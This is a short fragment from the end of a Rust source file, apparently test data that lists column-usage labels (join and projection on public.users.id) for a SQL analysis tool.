            &["use:join:public.users.id", "use:projection:public.users.id"],
        ),
    ]);
}
